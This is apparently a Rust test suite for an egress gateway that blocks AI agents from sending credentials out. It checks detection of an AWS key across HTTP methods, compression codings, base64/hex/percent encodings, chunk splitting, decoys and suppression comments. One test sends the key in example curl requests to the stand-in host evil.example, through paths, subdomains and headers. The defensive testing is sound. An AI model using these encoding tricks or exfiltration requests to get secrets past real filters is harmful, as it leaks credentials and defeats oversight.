//! Every body is scanned, in every form, and nothing in it can switch the scan off.

use std::io::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use flate2::Compression;
use flate2::write::{DeflateEncoder, ZlibEncoder};
use serde_json::json;

use crate::support::raw::{ask, ask_inside, connect};
use crate::support::{AWS_KEY, Gateway, SCHEMES};
use crate::threats::{bodies, gzip, percent};

#[track_caller]
fn assert_blocked_content(what: &str, reply: &crate::support::Reply) {
    assert_eq!(
        reply.header("x-oktsec-reason"),
        Some("proxy_blocked_content"),
        "{what}: {reply:?}"
    );
    reply.assert_refused(403, "proxy_blocked_content");
}

#[test]
fn s35_every_method_with_a_body_is_scanned() {
    let gateway = Gateway::seed();
    for scheme in SCHEMES {
        let url = format!("{scheme}://api.arxiv.org/submit");
        for method in ["POST", "PUT", "PATCH", "DELETE", "GET", "QUERY"] {
            for framing in [&[][..], &["-H", "Transfer-Encoding: chunked"]] {
                let curl = gateway
                    .curl(&url)
                    .agent("researcher")
                    .args(&["-X", method])
                    .args(framing);
                assert_blocked_content(
                    &format!("{method} {framing:?}"),
                    &curl.body(format!("k {AWS_KEY}")).send(),
                );
            }
            if scheme == "https" {
                let curl = gateway
                    .curl(&url)
                    .agent("researcher")
                    .args(&["-X", method, "--http2"]);
                assert_blocked_content(
                    &format!("{method} h2"),
                    &curl.body(format!("k {AWS_KEY}")).send(),
                );
            }
        }
    }
    gateway.upstream.assert_untouched();
    gateway.assert_nowhere(AWS_KEY);
}

#[test]
fn s35_every_form_is_looked_into() {
    let gateway = Gateway::seed();
    for scheme in SCHEMES {
        let url = format!("{scheme}://api.arxiv.org/submit");
        for (content_type, coding, body) in bodies(&format!("key={AWS_KEY}")) {
            let mut curl = gateway
                .curl(&url)
                .agent("researcher")
                .header(&format!("Content-Type: {content_type}"));
            if !coding.is_empty() {
                curl = curl.header(&format!("Content-Encoding: {coding}"));
            }
            assert_blocked_content(&format!("{content_type} {coding}"), &curl.body(body).send());
        }
    }
    gateway.upstream.assert_untouched();
}

#[test]
fn s35_every_coding_is_opened() {
    let gateway = Gateway::seed();
    let secret = format!("{{\"note\": \"see {AWS_KEY} there\"}}").into_bytes();
    let clean = b"{\"note\": \"nothing to see there\"}".to_vec();
    for scheme in SCHEMES {
        let url = format!("{scheme}://api.arxiv.org/submit");
        let send = |coding: &str, body: Vec<u8>| {
            let curl = gateway
                .curl(&url)
                .agent("researcher")
                .header("Content-Type: application/json");
            curl.header(&format!("Content-Encoding: {coding}"))
                .body(body)
                .send()
        };
        for (coding, encode) in codings() {
            assert_blocked_content(coding, &send(coding, encode(&secret)));
            let body = encode(&clean);
            let reply = send(coding, body.clone());
            reply.assert_passed();
            assert_eq!(reply.json()["body_len"], body.len(), "{coding}");
        }
        assert_blocked_content("gzip, gzip", &send("gzip, gzip", gzip(&gzip(&secret))));
        let reply = send("compress", clean.clone());
        reply.assert_refused(403, "proxy_uninspectable");
        assert!(
            reply.body.contains("the content coding compress (gzip"),
            "{reply:?}"
        );
        let reply = send("gzip", clean.clone());
        reply.assert_refused(403, "proxy_uninspectable");
        assert!(
            reply.body.contains("that its body does not follow"),
            "{reply:?}"
        );
    }
}

type Encode = fn(&[u8]) -> Vec<u8>;

fn codings() -> Vec<(&'static str, Encode)> {
    vec![
        ("identity", <[u8]>::to_vec),
        ("gzip", gzip),
        ("x-gzip", gzip),
        ("deflate", |bytes| {
            let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
            encoder.write_all(bytes).expect("a Vec takes every write");
            encoder.finish().expect("a Vec takes every write")
        }),
        // Many clients send the bare stream under this name.
        ("deflate", |bytes| {
            let mut encoder = DeflateEncoder::new(Vec::new(), Compression::default());
            encoder.write_all(bytes).expect("a Vec takes every write");
            encoder.finish().expect("a Vec takes every write")
        }),
        ("br", |bytes| {
            let mut out = Vec::new();
            brotli::CompressorWriter::new(&mut out, 4096, 5, 20)
                .write_all(bytes)
                .expect("a Vec takes every write");
            out
        }),
        ("zstd", |bytes| {
            zstd::encode_all(bytes, 3).expect("a Vec takes every write")
        }),
    ]
}

#[test]
fn s35_compressed_files_are_opened() {
    let gateway = Gateway::seed();
    let file = gzip(format!("id {AWS_KEY}\n").as_bytes());
    let head =
        "--frontier\r\nContent-Disposition: form-data; name=\"f\"; filename=\"notes.gz\"\r\n\r\n";
    let upload = [head.as_bytes(), &file, b"\r\n--frontier--\r\n"].concat();
    for scheme in SCHEMES {
        for (content_type, body) in [
            ("application/gzip", &file),
            ("multipart/form-data; boundary=frontier", &upload),
        ] {
            let curl = gateway.curl(&format!("{scheme}://api.arxiv.org/submit"));
            let curl = curl
                .agent("researcher")
                .header(&format!("Content-Type: {content_type}"));
            assert_blocked_content(content_type, &curl.body(body).send());
        }
    }
    gateway.upstream.assert_untouched();
}

#[test]
fn s35_encodings_inside_a_body_are_opened() {
    let gateway = Gateway::seed();
    let key = format!("aws_access_key_id={AWS_KEY}");
    let hex: String = key.bytes().map(|byte| format!("{byte:02x}")).collect();
    let base64 = STANDARD.encode(&key);
    let escaped: String = AWS_KEY
        .chars()
        .map(|c| format!("\\u{:04x}", u32::from(c)))
        .collect();
    let cases = [
        ("base64", format!("data: {base64}")),
        (
            "base64 for URLs",
            format!("data: {}", URL_SAFE_NO_PAD.encode(&key)),
        ),
        (
            "base64 twice",
            format!("data: {}", STANDARD.encode(&base64)),
        ),
        ("hex", format!("data: {hex}")),
        ("percent", format!("data={}", percent(&key))),
        ("percent twice", format!("data={}", percent(&percent(&key)))),
        ("JSON escapes", format!("{{\"note\": \"{escaped}\"}}")),
        (
            "JSON in JSON",
            json!({"note": json!({"inner": key}).to_string()}).to_string(),
        ),
        (
            "base64 in JSON",
            json!({"files": [{"content": base64}]}).to_string(),
        ),
        (
            "base64 of gzip",
            json!({"content": STANDARD.encode(gzip(key.as_bytes()))}).to_string(),
        ),
        (
            "lines of base64",
            STANDARD
                .encode(&key)
                .as_bytes()
                .chunks(19)
                .map(|line| format!("{}\n", String::from_utf8_lossy(line)))
                .collect(),
        ),
    ];
    for scheme in SCHEMES {
        for (what, body) in &cases {
            let content_type = if body.starts_with('{') {
                "application/json"
            } else {
                "text/plain"
            };
            let curl = gateway
                .curl(&format!("{scheme}://api.arxiv.org/submit"))
                .agent("researcher");
            assert_blocked_content(
                what,
                &curl
                    .header(&format!("Content-Type: {content_type}"))
                    .body(body)
                    .send(),
            );
        }
    }
    gateway.upstream.assert_untouched();
    gateway.assert_nowhere(AWS_KEY);
}

#[test]
fn s35_a_wrong_content_type_hides_nothing() {
    let gateway = Gateway::seed();
    for scheme in SCHEMES {
        for content_type in [
            "image/png",
            "application/octet-stream",
            "application/json",
            "multipart/form-data",
            "x",
            "",
        ] {
            let curl = gateway
                .curl(&format!("{scheme}://api.arxiv.org/submit"))
                .agent("researcher");
            let curl = curl.header(&format!("Content-Type: {content_type}"));
            assert_blocked_content(content_type, &curl.body(format!("id {AWS_KEY}\n")).send());
        }
    }
}

#[test]
fn s35_chunks_do_not_split_a_secret() {
    let gateway = Gateway::seed();
    let chunks: String = AWS_KEY
        .bytes()
        .map(|byte| format!("1\r\n{}\r\n", char::from(byte)))
        .collect();
    let request = |target: &str| {
        format!(
            "POST {target} HTTP/1.1\r\nHost: api.arxiv.org\r\nX-Oktsec-Agent: researcher\r\n\
             Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n{chunks}0\r\n\r\n"
        )
    };
    let plain = ask(connect(&gateway), &request("http://api.arxiv.org/c"));
    let inside = ask_inside(&gateway, "api.arxiv.org", &request("/c"));
    for answer in [plain, inside] {
        assert_eq!(
            (answer.status(), answer.reason()),
            (403, "proxy_blocked_content"),
            "{answer:?}"
        );
    }
    gateway.upstream.assert_untouched();
}

#[test]
fn s36_decoys_change_nothing() {
    let gateway = Gateway::seed();
    let example = concat!("AKIAIOSFODNN7", "EXAMPLE");
    let cases = [
        (
            "among many",
            format!(
                "{}\n{AWS_KEY}\n",
                "nothing of note in this line\n".repeat(200)
            ),
        ),
        ("after an example key", format!("{example}\n{AWS_KEY}\n")),
        (
            "beside the word example",
            format!("# example: test, dummy, placeholder, fake\nkey {AWS_KEY} # not a secret\n"),
        ),
        (
            "with a comment that asks for mercy",
            format!(
                "{AWS_KEY} # oktsec:ignore gitleaks:allow nosec noqa pragma: allowlist secret\n"
            ),
        ),
        (
            "among findings of no account",
            format!("card 4539 1488 0343 6467, ssn 536-22-8145, {AWS_KEY}"),
        ),
        (
            "behind a thousand decoys",
            format!("{}{AWS_KEY}", format!("{example} ").repeat(1000)),
        ),
        ("after NUL bytes", format!("\0\0\0{AWS_KEY}\0")),
        ("in a byte order mark", format!("\u{feff}{AWS_KEY}")),
    ];
    for scheme in SCHEMES {
        for (agent, host) in [("researcher", "api.arxiv.org"), ("coder", "api.github.com")] {
            for (what, body) in &cases {
                let reply = gateway.post(agent, &format!("{scheme}://{host}/submit"), body);
                assert_blocked_content(what, &reply);
                let rules = gateway.row(&reply)["findings"].to_string();
                assert!(rules.contains("credentials"), "{what}: {rules}");
            }
        }
    }
    gateway.upstream.assert_untouched();
    gateway.assert_nowhere(AWS_KEY);
}

#[test]
fn s39_a_secret_that_comes_twice_is_stored_nowhere() {
    let gateway = Gateway::seed();
    let encoded = STANDARD.encode(format!("{AWS_KEY}12"));
    let card = "5500000000000004";
    let curl = |url: &str| gateway.curl(url).agent("coordinator");
    let replies = [
        curl(&format!("http://evil.example/{AWS_KEY}/{AWS_KEY}"))
            .args(&["-A", &format!("{AWS_KEY} {AWS_KEY}")])
            .send(),
        curl(&format!(
            "http://evil.example/{AWS_KEY}/{encoded}?{AWS_KEY}={AWS_KEY}"
        ))
        .send(),
        curl(&format!("http://evil.example/u/{card}")).send(),
        curl(&format!("https://{card}.evil.example/")).send(),
        curl(&format!("http://{AWS_KEY}.evil.example/")).send(),
        curl("http://evil.example/")
            .header(&format!("{AWS_KEY}: 1"))
            .send(),
    ];
    for reply in &replies {
        assert_ne!(reply.status, 0, "{reply:?}");
    }
    for secret in [AWS_KEY, &AWS_KEY.to_ascii_lowercase(), &encoded, card] {
        gateway.assert_nowhere(secret);
    }
}

#[test]
fn s01_a_key_is_no_name_of_a_field() {
    let gateway = Gateway::seed();
    for scheme in SCHEMES {
        let url = format!("{scheme}://api.arxiv.org/");
        let reply = gateway
            .curl(&url)
            .agent("researcher")
            .header(&format!("X-{AWS_KEY}: 1"))
            .send();
        assert_blocked_content(&url, &reply);
    }
    gateway.upstream.assert_untouched();
}
